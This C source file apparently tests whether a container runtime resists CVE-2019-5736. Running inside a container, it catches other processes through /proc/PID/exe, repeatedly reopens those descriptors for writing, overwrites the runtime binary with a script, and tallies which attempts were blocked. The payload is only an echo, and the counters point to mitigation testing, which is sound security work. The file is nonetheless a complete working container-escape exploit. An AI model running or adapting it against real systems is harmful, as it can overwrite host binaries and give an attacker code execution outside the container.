/* Runs inside a container and tries to overwrite the runtime binary (CVE-2019-5736).
 * Every process of the container that is not pid 1, itself or a file of the container's
 * own rootfs is caught through /proc/PID/exe and the fd is kept; each round every kept
 * fd is reopened for writing (ETXTBSY while the process runs: kept for the next round),
 * and on success the binary is overwritten. Stops when /stop exists or after argv[1]
 * seconds and prints what the tries met. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HELD 256
static int held[HELD], nheld;
static long opened, sealed, eacces, erofs, etxtbsy, other, written;
static char seen[1 << 22];

static int own_file(struct stat *st) {
    const char *mine[] = {"/bin/busybox", "/bin/attack", 0};
    for (int i = 0; mine[i]; i++) {
        struct stat m;
        if (stat(mine[i], &m) == 0 && m.st_ino == st->st_ino && m.st_dev == st->st_dev)
            return 1;
    }
    return 0;
}

static void catch_exe(int pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        if (errno == EACCES || errno == EPERM) eacces++;
        return;
    }
    struct stat st;
    if (fstat(fd, &st) != 0 || own_file(&st) || nheld == HELD) {
        close(fd);
        return;
    }
    seen[pid] = 1; /* one catch per process is enough */
    /* A sealed memfd (the runtime's exec stub) is tried too, but counted apart. */
    /* Classify what the fd holds (the process may have exec'd on since). */
    char target[256], self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(self, target, sizeof target - 1);
    target[n > 0 ? n : 0] = 0;
    if (strncmp(target, "/memfd:", 7) == 0) sealed++;
    else opened++;
    held[nheld++] = fd;
}

static void try_write(void) {
    for (int i = 0; i < nheld;) {
        char again[64];
        snprintf(again, sizeof again, "/proc/self/fd/%d", held[i]);
        int w = open(again, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (w < 0 && errno == ETXTBSY) {
            etxtbsy++;
            i++;
            continue;
        }
        if (w >= 0) {
            const char evil[] = "#!/bin/sh\necho the runtime binary was overwritten\n";
            if (write(w, evil, sizeof evil - 1) > 0) written++;
            close(w);
        } else if (errno == EROFS) erofs++;
        else if (errno == EACCES || errno == EPERM) eacces++;
        else other++;
        close(held[i]);
        held[i] = held[--nheld];
    }
}

int main(int argc, char **argv) {
    int secs = argc > 1 ? atoi(argv[1]) : 60;
    time_t end = time(0) + secs;
    int me = getpid();
    while (time(0) < end && access("/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        if (!d) return 2;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid > 1 && pid != me && pid < (int)sizeof seen && !seen[pid]) catch_exe(pid);
        }
        closedir(d);
        try_write();
    }
    usleep(100000);
    try_write();
    printf("opened=%ld sealed=%ld eacces=%ld erofs=%ld etxtbsy=%ld other=%ld written=%ld\n",
           opened, sealed, eacces, erofs, etxtbsy, other, written);
    return 0;
}
